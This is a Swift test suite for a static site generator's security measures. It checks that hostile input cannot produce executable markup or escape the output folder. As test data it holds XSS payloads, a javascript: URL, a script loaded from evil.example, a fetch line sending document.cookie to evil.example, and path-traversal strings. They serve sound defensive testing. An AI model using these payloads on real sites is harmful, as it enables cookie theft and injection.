import Foundation
import Testing
@testable import Sitegen

/// Hostile content never becomes executable markup, paths never leave the output folder, and the
/// pages carry a Content-Security-Policy they satisfy.
@Suite struct SecurityTests {
    static let hostileCorpus = Repo.root.appendingPathComponent("fuzz/seeds/hostile")
    static let checker = Repo.root.appendingPathComponent("scripts/check-output-safety")

    /// Runs scripts/check-output-safety over a built site; returns its exit status and report.
    static func check(_ site: URL) throws -> (status: Int32, output: String) {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        p.arguments = ["python3", checker.path, site.path, "--templates", Repo.templates.path]
        let pipe = Pipe()
        p.standardOutput = pipe
        p.standardError = pipe
        try p.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return (p.terminationStatus, String(decoding: data, as: UTF8.self))
    }

    @Test func hostileCorpusBuildsWithoutExecutableMarkup() throws {
        let out = TempDir()
        let site = out.url.appendingPathComponent("site")
        let report = try buildSite(input: Self.hostileCorpus, output: site, baseURL: "https://example.org/dossier/")
        #expect(report.articles >= 6)
        // The only errors are the hostile records skipped on purpose, each named by file and line.
        #expect(!report.errors.isEmpty && report.skippedRecords == report.errors.count)
        #expect(report.errors.allSatisfy { ["records.jsonl", "records.csv"].contains($0.file ?? "") && $0.line != nil }, "\(report.errors)")
        // Every non-http(s) url was dropped with a warning naming its file.
        for file in ["script-everywhere.md", "json-breakout.md", "sidecar-hostile.txt"] {
            #expect(report.warnings.contains { $0.file == file && $0.message.contains("not a plain http(s) address; dropped") }, "\(file)")
        }
        let result = try Self.check(site)
        #expect(result.status == 0, "\(result.output)")
        #expect(result.output.contains("0 problem(s)"))

        for (path, data) in Robustness.snapshot(site) where path.hasSuffix(".html") {
            let html = String(decoding: data, as: UTF8.self)
            let lower = html.lowercased()
            // No script element but the site's own search script (a file from the templates' assets).
            let scripts = lower.components(separatedBy: "<script").dropFirst()
            #expect(scripts.allSatisfy { $0.hasPrefix(" src=\"") && $0.prefix(80).contains("assets/search.js\"") }, "\(path)")
            #expect(!lower.contains("href=\"javascript") && !lower.contains("src=\"javascript"), "\(path)")
            let title = html.components(separatedBy: "</title>")[0]
            #expect(!title.unicodeScalars.contains { MetadataCleaning.isBidiControl($0.value) }, "bidi control in <title> of \(path)")
            #expect(html.contains("<meta http-equiv=\"Content-Security-Policy\""), "\(path)")
        }
    }

    @Test func checkerCatchesExecutableMarkup() throws {
        // The checker must fail on each kind of problem it is there to find.
        let bad: [(String, String)] = [
            ("index.html", "<p>x</p><script>alert(1)</script>"),
            ("index.html", "<p onclick=\"alert(1)\">x</p>"),
            ("index.html", "<a href=\" java\tscript:alert(1)\">x</a>"),
            ("index.html", "<svg><script>alert(1)</script></svg>"),
            ("index.html", "<img src=x onerror=alert(1)>"),
            ("index.html", "<script src=\"https://evil.example/x.js\"></script>"),
            ("index.html", "<iframe src=\"a.html\"></iframe>"),
            ("index.html", "<p style=\"color:red\">x</p>"),
            ("index.html", "<script type=\"application/json\">{\"t\": \"</script><script>alert(1)</script>\"}</script>"),
            ("feed.xml", "<feed><title>a & b</title></feed>"),
            ("feed.xml", "<rss><channel><item><description>&lt;img src=x onerror=alert(1)&gt;</description></item></channel></rss>"),
            ("data.json", "{\"a\": }"),
            ("assets/search.js", "fetch('//evil.example/' + document.cookie)"),
        ]
        let csp = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'self'; style-src 'self'\">"
        for (file, content) in bad {
            let dir = TempDir()
            let page = file.hasSuffix(".html") ? "<!DOCTYPE html><html><head>\(csp)</head><body>\(content)</body></html>" : content
            dir.write(file, page)
            if !file.hasSuffix(".html") { dir.write("index.html", "<!DOCTYPE html><html><head>\(csp)</head><body></body></html>") }
            let r = try Self.check(dir.url)
            #expect(r.status == 1, "checker passed \(file): \(content)")
        }
        let good = TempDir()
        good.write("index.html", "<!DOCTYPE html><html><head>\(csp)</head><body><p>نص</p>"
                   + "<script type=\"application/json\">{\"t\": \"<\\/script>\"}</script></body></html>")
        good.write("feed.xml", "<feed><title>a &amp; b</title></feed>")
        good.write("assets/data.js", "window.SITEGEN_DATA = {\"a\": [1, 2]};\n")
        let r = try Self.check(good.url)
        #expect(r.status == 0, "\(r.output)")
    }

    @Test func markdownRawHTMLAndScriptURLsAreNeutralized() {
        let html = Markdown.html("""
        <script>alert(1)</script>

        [x](javascript:alert(1)) [y](VBSCRIPT:x) ![z](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>

        <img src=x onerror=alert(1)> <a href="javascript:alert(1)">a</a>
        """)
        let lower = html.lowercased()
        #expect(!lower.contains("<script"))
        #expect(!lower.contains("<img src=x"))
        #expect(!lower.contains("onerror"))
        #expect(!lower.contains("href=\"javascript") && !lower.contains("href=\"vbscript") && !lower.contains("src=\"data:text"))
        #expect((CMarkDocument.options & (1 << 17)) == 0, "CMARK_OPT_UNSAFE (1 << 17) must stay off")
    }

    @Test func blocksThatRenderAsNothingKeepTheirAnchor() {
        let body = ArticleBody(markdown: "فقرة أولى.\n\n<div onclick=\"x()\">كتلة</div>\n\nفقرة ثالثة.\n")
        let html = body.html()
        #expect(html.contains("id=\"p1\"") && html.contains("id=\"p2\"") && html.contains("id=\"p3\""))
        #expect(!html.contains("onclick"))
    }

    @Test func outputPathsCannotLeaveTheOutputFolder() throws {
        let out = TempDir()
        let staged = try StagedOutput(output: out.url.appendingPathComponent("site"))
        defer { staged.discard() }
        for path in ["../escape.html", "a/../../escape.html", "/etc/escape", "", "a//b", "./a", "a/./b", "a\\..\\b", "a\u{0}b", "a/\n/b"] {
            #expect(throws: Diagnostic.self, "\(path.debugDescription)") { try staged.write(path, "x") }
        }
        try staged.write("articles/ok.html", "x")
        #expect(!FileManager.default.fileExists(atPath: out.url.appendingPathComponent("escape.html").path))
        #expect(!FileManager.default.fileExists(atPath: out.url.deletingLastPathComponent().appendingPathComponent("escape.html").path))
    }

    @Test func safePathChecksAndFoldersOnBytesAgreeWithStrings() {
        func safe(_ path: String) -> Bool {
            guard !path.isEmpty, path.utf8.count < 4096 else { return false }
            for component in path.split(separator: "/", omittingEmptySubsequences: false) {
                if component.isEmpty || component == "." || component == ".." || component.utf8.count > 255 { return false }
            }
            return !path.utf8.contains { $0 < 0x20 || $0 == 0x7F || $0 == UInt8(ascii: "\\") }
        }
        let long = String(repeating: "ب", count: 127)  // 254 bytes
        let paths = ["index.html", "a/index.html", "مقالات/نص/index.html", ".", "..", "...", ".a", "a.", "a/.", "a/..", "../a",
                     "a/.../b", "..a/b", "a/b/", "/a", "a//b", "a\\b", "a\u{7F}", "a\tb", ".\u{301}/x", long + "/x", long + "x/x", long + "xy/x",
                     String(repeating: "a/", count: 2100) + "x", "search/data/t/627-644.js", "d/3.js"]
        for path in paths {
            #expect(StagedOutput.isSafeRelativePath(path) == safe(path), "\(path.debugDescription)")
            if safe(path) {
                #expect(StagedOutput.parentFolder(path) == (path as NSString).deletingLastPathComponent, "\(path.debugDescription)")
            }
        }
    }

    @Test func slugsFromHostileTitlesAndNamesStayInsideArticles() {
        let titles = ["../../etc/passwd", "..", "/", "\\..\\..\\windows", "<script>", "\u{202E}txt.exe", "%2e%2e%2f", "\u{0}", "", "..."]
        let slugs = Slugs.assign(titles: titles, keys: titles.indices.map { "k\($0)" }, fallbackPrefix: "article")
        for s in slugs {
            #expect(StagedOutput.isSafeRelativePath(SitePath("articles/" + s).file), "\(s)")
            #expect(s.utf8.allSatisfy { ($0 >= UInt8(ascii: "a") && $0 <= UInt8(ascii: "z")) || ($0 >= UInt8(ascii: "0") && $0 <= UInt8(ascii: "9")) || $0 == UInt8(ascii: "-") }, "\(s)")
            #expect(!s.isEmpty)
        }
        #expect(Set(slugs).count == slugs.count)
    }

    @Test func metadataLosesBidiOverridesAndNonWebURLs() throws {
        let o = Robustness.load("a.md", Data("""
        ---
        title: "عنوان \u{202E}معكوس\u{202C} \u{2067}معزول\u{2069}"
        source: "\u{202D}Reuters"
        tags: ["\u{202E}", "وسم\u{200F}"]
        url: "  JavaScript:alert(1)"
        ---
        نص.
        """.utf8))
        let a = try #require(o.article)
        #expect(a.title == "عنوان معكوس معزول")
        #expect(a.source == "Reuters")
        #expect(a.tags == ["وسم\u{200F}"])
        #expect(a.url == nil)
        #expect(o.diagnostics.contains { $0.severity == .warning && $0.message.contains("dropped") })
        for url in ["http://a.example/x", "HTTPS://a.example/"] { #expect(ArticleLoader.isWebURL(url)) }
        for url in ["ftp://x", "file:///etc/passwd", "//evil.example", "http://a b", "https://x\"onmouseover=", "data:text/html,x"] {
            #expect(!ArticleLoader.isWebURL(url), "\(url)")
        }
    }
}
